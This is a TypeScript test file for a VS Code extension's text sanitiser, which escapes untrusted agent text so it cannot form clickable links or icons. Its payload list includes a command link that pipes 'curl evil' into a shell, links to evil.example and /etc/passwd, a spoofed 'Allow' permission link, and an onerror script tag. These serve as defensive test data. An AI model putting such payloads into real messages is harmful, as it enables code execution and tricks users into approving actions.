import * as assert from 'node:assert/strict';
import { forLabel, forMessage, oneLine } from '../../../src/shared/nativeText';

// Facts about VS Code (read from its workbench bundle, code-server 4.139.1), stated here to test against:
// - notifications turn text into links with `parseLinkedText` (src/vs/base/common/linkedText.ts), whose grammar is
//   /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi
// - labels (quick picks, status bar, tree descriptions) draw codicons where
//   /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g matches (src/vs/base/browser/ui/iconLabel/iconLabels.ts).
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const CODICON = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
const links = (s: string) => [...s.matchAll(LINK)].length;
const icons = (s: string) => [...s.matchAll(CODICON)].length;

const PAYLOADS = [
  '[Click here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[docs](https://evil.example/x "a title")',
  '[open](file:///etc/passwd)',
  'Delete build/ [Allow](COMMAND:acpAgents.allowPermission)',
  '[a\n](command:x)',
  '[x]\u202e(command:y)',
  '[x]\u0000(command:y)',
  '$(check) Approved $(loading~spin)',
  '\\$(error)',
  '**bold** _it_ `code` <img src=x onerror=alert(1)> # heading',
];

describe('nativeText: untrusted text for native UI', () => {
  it('the payloads are what VS Code would render (so the tests below test something)', () => {
    assert.equal(links(PAYLOADS[0]!), 1);
    assert.equal(links(PAYLOADS[3]!), 1);
    assert.equal(icons(PAYLOADS[7]!), 2);
    // Stripping only the control character would make a link of these two.
    assert.equal(links(PAYLOADS[5]!.replace('\u202e', '')), 1);
    assert.equal(links(PAYLOADS[6]!.replace('\u0000', '')), 1);
  });

  for (const [name, f] of [
    ['forMessage', forMessage],
    ['forLabel', forLabel],
  ] as const) {
    it(`${name}: no payload can form a link or a codicon, alone or put into a sentence`, () => {
      for (const p of PAYLOADS) {
        const out = f(p);
        assert.equal(links(out), 0, `${JSON.stringify(p)} → ${JSON.stringify(out)}`);
        assert.equal(icons(out), 0, `${JSON.stringify(p)} → ${JSON.stringify(out)}`);
        // A sentence around the text, or a second argument that completes the syntax.
        for (const sentence of [`Agent asks: ${out}`, `${f('[x')}${f('](command:y)')}`, `${f('see [x]')}(command:y)`, `${f('$')}(check)`, `${f('[x')}: ${out}`]) {
          assert.equal(links(sentence), 0, JSON.stringify(sentence));
          assert.equal(icons(sentence), 0, JSON.stringify(sentence));
        }
      }
    });
  }

  it('looks the same: only zero-width spaces are added, plain text is unchanged', () => {
    const plain = 'Fake: slow-permission asks for permission: Delete build/ (3 files) costs $5 [WIP]';
    assert.equal(forMessage('Delete build/ (3 files)'), 'Delete build/ (3 files)');
    assert.equal(forLabel('Refactor the parser'), 'Refactor the parser');
    assert.equal(forMessage(PAYLOADS[0]).replace(/\u200b/g, ''), PAYLOADS[0]);
    assert.equal(forLabel(PAYLOADS[7]).replace(/\u200b/g, ''), PAYLOADS[7]);
    assert.equal(forMessage(plain).replace(/\u200b/g, ''), plain);
    assert.equal(forMessage('run command: npm test'), 'run command: npm test');
    assert.equal(forMessage('see command:evil.run'), 'see command\u200b:evil.run');
  });

  it('is idempotent: escaping twice changes nothing more', () => {
    for (const p of PAYLOADS) {
      assert.equal(forMessage(forMessage(p)), forMessage(p));
      assert.equal(forLabel(forLabel(p)), forLabel(p));
    }
  });

  it('drops control characters and bidi overrides; forLabel makes one line, forMessage keeps line breaks', () => {
    assert.equal(forMessage('a\u0007b\u202ec\u2066d\u009be\ufefff'), 'abcdef');
    assert.equal(forMessage('one\r\ntwo\u2028three\tfour'), 'one\ntwo\nthree four');
    assert.equal(forLabel('one\r\n  two\nthree'), 'one two three');
  });

  it('bounds the length without splitting a surrogate pair', () => {
    assert.equal(forLabel('x'.repeat(500)).length, 200);
    assert.ok(forLabel('x'.repeat(500)).endsWith('…'));
    assert.equal(forMessage('y'.repeat(5000)).length, 1000);
    const emoji = forLabel('😀'.repeat(300), 10);
    assert.equal(Array.from(emoji).length, 10);
    assert.doesNotMatch(emoji, /[\ud800-\udbff](?![\udc00-\udfff])/);
  });

  it('takes anything: undefined and null are empty, others are their string', () => {
    assert.equal(forMessage(undefined), '');
    assert.equal(forLabel(null), '');
    assert.equal(forLabel(42), '42');
  });

  it('oneLine: every run of controls, format characters (bidi too), separators and whitespace is one space; bounded by code points', () => {
    assert.equal(oneLine('  a\r\n\tb\u0000\u0007c\u202e\u2066d\u200b\ufeff e\u2028f\u00a0g\u3000h  '), 'a b c d e f g h');
    assert.equal(oneLine('x'.repeat(500)).length, 200);
    assert.ok(oneLine('x'.repeat(500)).endsWith('…'));
    const emoji = oneLine('😀'.repeat(300), 10);
    assert.equal(Array.from(emoji).length, 10);
    assert.doesNotMatch(emoji, /[\ud800-\udbff](?![\udc00-\udfff])/);
    assert.equal(oneLine(undefined), '');
    // Links are left to forLabel: the text reads as it was sent.
    assert.equal(oneLine('[x](command:y)'), '[x](command:y)');
  });
});
